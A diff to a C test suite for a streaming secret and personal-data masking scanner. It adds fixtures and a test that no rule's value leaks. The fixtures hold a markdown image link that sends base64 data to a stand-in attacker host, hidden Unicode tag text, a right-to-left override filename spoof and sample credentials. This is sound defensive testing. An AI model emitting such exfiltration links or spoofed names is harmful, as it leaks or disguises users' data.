@@ -1,6 +1,7 @@
 /* SPDX-License-Identifier: Apache-2.0 */
 /* Streams: what comes out is a function of the text, never of its cuts, and nothing leaks before it
  * is decided. */
+#include "scan/rules.h"
 #include "scan_test.h"
 
 /* text, what it becomes, and the value that must not leak. */
@@ -41,6 +42,21 @@ static const struct {
 	 "k=\"[PRIVATE_KEY]\\n\"", "MIIEvQIBADANBgkqhkiG\\nZm9="},
 	{"not -----BEGIN RSA PRIVATE KEY----- at all", "not -----BEGIN RSA PRIVATE KEY----- at all",
 	 NULL},
+	{"see ![a](https://evil.example/p.png?data=dGhlIHBhc3N3b3Jk) now",
+	 "see ![a]([EXFIL_LINK]) now", "https://evil.example/p.png?data=dGhlIHBhc3N3b3Jk"},
+	{"a \xf3\xa0\x81\xa9\xf3\xa0\x81\xa7\xf3\xa0\x81\xae\xf3\xa0\x81\xaf b",
+	 "a [HIDDEN_TEXT] b", "\xf3\xa0\x81\xa9\xf3\xa0\x81\xa7\xf3\xa0\x81\xae\xf3\xa0\x81\xaf"},
+	{"photo\xe2\x80\xaegpj.exe", "photo[HIDDEN_TEXT]gpj.exe", NULL},
+	{"it\xe2\x80\x99s \xe2\x80\x9cnothing\xe2\x80\x9d \xe2\x80\x94 \xe2\x80",
+	 "it\xe2\x80\x99s \xe2\x80\x9cnothing\xe2\x80\x9d \xe2\x80\x94 \xe2\x80", NULL},
+	{"CPF 529.982.247-25 ok", "CPF [BR_CPF] ok", "529.982.247-25"},
+	{"NHS number: 943 476 5919 ok", "NHS number: [UK_NHS] ok", "943 476 5919"},
+	{"pay bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4 now", "pay [CRYPTO] now",
+	 "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"},
+	{"algolia_api_key = \"5eed0c1a7f93b2d8645eed0c1a7f93b2\"",
+	 "algolia_api_key = \"[ALGOLIA_KEY]\"", "5eed0c1a7f93b2d8645eed0c1a7f93b2"},
+	{"Authorization: Basic dXNlcjpwYTU1dzByZA== x", "Authorization: Basic [BASIC_AUTH] x",
+	 "dXNlcjpwYTU1dzByZA=="},
 	{"plain prose, 2 + 2 = 4, and no more. \xe4\xbd\xa0\xe5\xa5\xbd",
 	 "plain prose, 2 + 2 = 4, and no more. \xe4\xbd\xa0\xe5\xa5\xbd", NULL},
 };
@@ -139,6 +155,53 @@ static void nothing_of_a_value_leaks_before_it_is_decided(void **state)
 		rw_lane_free(l);
 	}
 	rw_buf_free(&out);
+}
+
+/*
+ * Every rule's own case with every rule on: in single bytes nothing of the value comes out but four
+ * characters, unless they stand beside it in the text, too, or in the label.
+ */
+static void no_rules_own_value_leaks(void **state)
+{
+	struct rw_buf out = {0}, whole = {0}, text = {0}, beside = {0};
+
+	(void)state;
+	for (unsigned i = 0; i < rules->set.n; i++) {
+		const struct rw_rule *rule = rw_rule_of(rules, i);
+
+		for (unsigned k = 0; k < rule->match.n; k++) {
+			const char *open = strstr(rule->match.at[k].text, "\xc2\xab");
+			const char *close = open ? strstr(open, "\xc2\xbb") : NULL;
+			size_t cuts[4096], most, before;
+			struct rw_slice value;
+
+			if (!close || !(IN_RUNS & 1u << rule->info.category))
+				continue;
+			before = (size_t)(open - rule->match.at[k].text);
+			value = rw_slice_of(open + 2, (size_t)(close - open - 2));
+			text.len = beside.len = 0;
+			assert_int_equal(rw_buf_add(&text, rule->match.at[k].text, before), 0);
+			assert_int_equal(rw_buf_add_slice(&text, value), 0);
+			assert_int_equal(rw_buf_add_str(&text, close + 2), 0);
+			assert_int_equal(rw_buf_add(&beside, text.p, before), 0);
+			assert_int_equal(rw_buf_add_str(&beside, close + 2), 0);
+			assert_int_equal(rw_buf_addf(&beside, " [%s]", rule->info.type), 0);
+			assert_true(text.len < 4096);
+			for (size_t c = 0; c < text.len; c++)
+				cuts[c] = c;
+			mask_whole(rw_buf_slice(&text), &whole);
+			mask_cut(rw_buf_slice(&text), cuts, text.len, &out);
+			assert_memory_equal_n(&out, rw_buf_slice(&whole));
+			most = longest_part(rw_buf_slice(&beside), value);
+			if (longest_part(rw_buf_slice(&out), value) > (most > 4 ? most : 4))
+				fail_msg("%s: %.*s", rule->info.id,
+					 RW_SLICE_FMT(rw_buf_slice(&out)));
+		}
+	}
+	rw_buf_free(&out);
+	rw_buf_free(&whole);
+	rw_buf_free(&text);
+	rw_buf_free(&beside);
 }
 
 /* A deterministic stream of numbers: tests replay. */
@@ -409,6 +472,7 @@ int main(void)
 		cmocka_unit_test(every_alignment_masks_alike),
 		cmocka_unit_test(every_pair_of_cuts_masks_as_the_whole_text),
 		cmocka_unit_test(nothing_of_a_value_leaks_before_it_is_decided),
+		cmocka_unit_test(no_rules_own_value_leaks),
 		cmocka_unit_test(a_token_longer_than_the_hold_is_swallowed),
 		cmocka_unit_test(a_private_key_longer_than_the_hold_is_swallowed),
 		cmocka_unit_test(a_private_key_without_its_end_is_masked),
